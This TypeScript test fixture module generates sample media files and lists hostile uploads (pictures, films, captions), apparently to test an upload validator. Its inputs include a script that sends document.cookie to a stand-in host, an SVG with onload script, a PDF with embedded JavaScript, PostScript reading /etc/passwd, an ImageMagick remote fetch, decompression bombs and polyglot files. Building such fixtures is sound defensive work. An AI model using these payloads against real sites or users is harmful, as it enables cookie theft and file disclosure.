import sharp from 'sharp'

/** A box of an MP4: its type and what is in it. */
export function box(type: string, ...content: ReadonlyArray<Buffer | string>): Buffer {
  const body = Buffer.concat(content.map((one) => (typeof one === 'string' ? Buffer.from(one, 'latin1') : one)))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}

function dref(flags: number, address = ''): Buffer {
  const entry = box('url ', Buffer.of(0, 0, 0, flags), address)
  return box('dinf', box('dref', Buffer.of(0, 0, 0, 0, 0, 0, 0, 1), entry))
}

const FTYP = box('ftyp', 'isom', Buffer.alloc(4), 'isommp42')
const PLACE = '+52.1583+004.4930/'

type Mp4 = { ftyp?: Buffer; dinf?: Buffer; more?: Buffer; last?: Buffer }
/** A small MP4 as a telephone makes one, with where it was made. */
export function mp4({ ftyp = FTYP, dinf = dref(1), more = Buffer.alloc(0), last = Buffer.alloc(0) }: Mp4 = {}): Buffer {
  const told = box('udta', box('\xa9xyz', PLACE))
  const trak = box('trak', box('tkhd', Buffer.alloc(84)), box('mdia', box('minf', dinf)), box('udta', PLACE))
  return Buffer.concat([
    ftyp,
    box('moov', box('mvhd', Buffer.alloc(100)), trak, told, more),
    box('mdat', Buffer.alloc(2_000, 7)),
    last,
  ])
}

function element(id: string, ...content: ReadonlyArray<Buffer | string>): Buffer {
  const body = Buffer.concat(content.map((one) => (typeof one === 'string' ? Buffer.from(one) : one)))
  const size = body.length < 127 ? Buffer.of(0x80 | body.length) : Buffer.alloc(8)
  if (body.length >= 127) {
    size.writeUIntBE(body.length, 2, 6)
    size[0] = 0x01
  }
  return Buffer.concat([Buffer.from(id, 'hex'), size, body])
}

type Webm = { docType?: string; more?: Buffer; last?: Buffer }
/** A small WebM with a title and tags. */
export function webm({ docType = 'webm', more = Buffer.alloc(0), last = Buffer.alloc(0) }: Webm = {}): Buffer {
  const head = element('1a45dfa3', element('4282', docType))
  const segment = element(
    '18538067',
    element('1549a966', element('7ba9', 'Anna thuis'), element('4d80', 'tool')),
    element('1654ae6b', Buffer.alloc(20)),
    element('1254c367', `Anna ${PLACE}`),
    more,
    element('1f43b675', element('e7', Buffer.of(0)), element('a3', Buffer.alloc(500, 5))),
  )
  return Buffer.concat([head, segment, last])
}

function flat(width: number, height: number, background = '#0a6') {
  return sharp({ create: { width, height, channels: 3, background }, limitInputPixels: false })
}

/** A photo as a camera makes one, with place, device and name in it, turned on its side. */
export function photo(): Promise<Buffer> {
  return flat(1_600, 1_200)
    .withExif({ IFD0: { Make: 'Telefoon', Artist: 'Anna de Vries' }, IFD3: { GPSLatitude: '52/1 9/1 30/1' } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer()
}

/** Size in a PNG's head that its content does not have. */
async function lyingPng(width: number, height: number): Promise<Buffer> {
  const png = await flat(10, 10).png().toBuffer()
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  return png
}

const SCRIPT = '<script>fetch("https://boos.example.com/"+document.cookie)</script>'
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}<image href="https://boos.example.com/x.png"/></svg>`

export type Hostile = { readonly what: string; readonly bytes: Buffer }

/** Pictures that are none, lie, move or explode. */
export async function hostilePictures(): Promise<Hostile[]> {
  const jpeg = await photo()
  const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
  const frames = await Promise.all(['#0a6', '#a06'].map((colour) => flat(20, 20, colour).png().toBuffer()))
  const moving = await sharp(frames, { join: { animated: true } })
    .webp({ loop: 0, delay: [100, 100] })
    .toBuffer()
  return [
    { what: 'an SVG with a script', bytes: Buffer.from(SVG) },
    { what: 'an SVG behind a head of XML', bytes: Buffer.from(`<?xml version="1.0"?>${SVG}`) },
    { what: 'a page', bytes: Buffer.from(`<!doctype html>${SCRIPT}`) },
    { what: 'an empty file', bytes: Buffer.alloc(1) },
    { what: 'zeros', bytes: Buffer.alloc(100_000) },
    { what: 'an MP4 called a picture', bytes: mp4() },
    { what: 'a GIF', bytes: gif },
    { what: 'a TIFF', bytes: await flat(50, 50).tiff().toBuffer() },
    {
      what: 'a PDF',
      bytes: Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    },
    { what: 'a program', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2_000, 1)]) },
    { what: 'PostScript', bytes: Buffer.from('%!PS\n(/etc/passwd) (r) file') },
    {
      what: 'an MVG of ImageMagick',
      bytes: Buffer.from('push graphic-context\nimage over 0,0 0,0 "https://boos.example.com/"'),
    },
    { what: 'a JPEG cut off', bytes: jpeg.subarray(0, jpeg.length >> 1) },
    { what: 'the head of a JPEG', bytes: jpeg.subarray(0, 20) },
    { what: 'a JPEG that is a page', bytes: Buffer.concat([Buffer.of(0xff, 0xd8, 0xff), Buffer.from(SCRIPT)]) },
    { what: 'a PNG of a thousand million pixels', bytes: await lyingPng(40_000, 40_000) },
    { what: 'a PNG that says it is four thousand million wide', bytes: await lyingPng(0xffffffff, 1) },
    { what: 'a PNG with another size than its content', bytes: await lyingPng(3_000, 3_000) },
    {
      what: 'a decompression bomb of 49 million pixels',
      bytes: await flat(7_000, 7_000).png({ compressionLevel: 9 }).toBuffer(),
    },
    { what: 'a picture ten times as high as wide', bytes: await flat(100, 1_000).png().toBuffer() },
    { what: 'a picture ten times as wide as high', bytes: await flat(1_000, 100).png().toBuffer() },
    { what: 'a WebP that moves', bytes: moving },
    {
      what: 'a PNG that moves',
      bytes: Buffer.concat([(await flat(9, 9).png().toBuffer()).subarray(0, 33), box('acTL', Buffer.alloc(8))]),
    },
    {
      what: 'an AVIF sequence',
      bytes: Buffer.concat([box('ftyp', 'avis', Buffer.alloc(4), 'avis'), Buffer.alloc(500)]),
    },
    { what: 'a HEIC', bytes: Buffer.concat([box('ftyp', 'heic', Buffer.alloc(4), 'mif1heic'), Buffer.alloc(500)]) },
    { what: 'a WebP of nothing', bytes: Buffer.from('RIFF\x10\0\0\0WEBPVP8 ', 'latin1') },
  ]
}

/** Films that are none, or more than a film. */
export async function hostileFilms(): Promise<Hostile[]> {
  const whole = mp4()
  return [
    { what: 'a page', bytes: Buffer.from(`<!doctype html>${SCRIPT}`.padEnd(300)) },
    { what: 'an SVG', bytes: Buffer.from(SVG) },
    { what: 'a picture called a film', bytes: await photo() },
    { what: 'an AVIF called a film', bytes: await flat(50, 50).avif().toBuffer() },
    { what: 'an MP4 cut off', bytes: whole.subarray(0, whole.length - 100) },
    { what: 'the head of an MP4', bytes: FTYP },
    { what: 'an MP4 with a page behind it', bytes: mp4({ last: Buffer.from(SCRIPT) }) },
    { what: 'an MP4 that is a ZIP too', bytes: mp4({ last: Buffer.from('PK\x03\x04'.padEnd(200, '\0')) }) },
    { what: 'an MP4 with a box of its own', bytes: mp4({ last: box('evil', SCRIPT) }) },
    { what: 'an MP4 whose pictures stand elsewhere', bytes: mp4({ dinf: dref(0, 'https://boos.example.com/film') }) },
    { what: 'an MP4 with a packed head', bytes: mp4({ more: box('cmov', Buffer.alloc(50)) }) },
    { what: 'two heads', bytes: mp4({ last: FTYP }) },
    { what: 'QuickTime', bytes: mp4({ ftyp: box('ftyp', 'qt  ', Buffer.alloc(4), 'qt  ') }) },
    { what: 'sound', bytes: mp4({ ftyp: box('ftyp', 'M4A ', Buffer.alloc(4), 'M4A mp42isom') }) },
    {
      what: 'a box that is larger than the file',
      bytes: Buffer.concat([FTYP, Buffer.from('7fffffff', 'hex'), Buffer.from('moov'), Buffer.alloc(300)]),
    },
    {
      what: 'a box of no size',
      bytes: Buffer.concat([FTYP, Buffer.from('00000004', 'hex'), Buffer.from('moov'), Buffer.alloc(300)]),
    },
    { what: 'Matroska', bytes: webm({ docType: 'matroska' }) },
    { what: 'a WebM with a page behind it', bytes: webm({ last: Buffer.from(SCRIPT) }) },
    { what: 'a WebM with an element of its own', bytes: webm({ more: element('15555555', SCRIPT) }) },
    { what: 'a WebM cut off', bytes: webm().subarray(0, 300) },
    { what: 'a list of addresses', bytes: Buffer.from('#EXTM3U\nhttps://boos.example.com/a.ts\n') },
    { what: 'AVI', bytes: Buffer.from('RIFF\x10\0\0\0AVI LIST'.padEnd(200, '\0'), 'latin1') },
  ]
}

/** Captions that are none. */
export const HOSTILE_CAPTIONS: ReadonlyArray<Hostile> = [
  { what: 'a page', bytes: Buffer.from(`<!doctype html>${SCRIPT}`) },
  { what: 'an SVG', bytes: Buffer.from(SVG) },
  { what: 'no text', bytes: Buffer.from([0xff, 0xfe, 0x00, 0xd8]) },
  { what: 'a film', bytes: mp4() },
  { what: 'no caption', bytes: Buffer.from('WEBVTT\n\nSTYLE\n::cue{background:url(https://boos.example.com)}') },
]
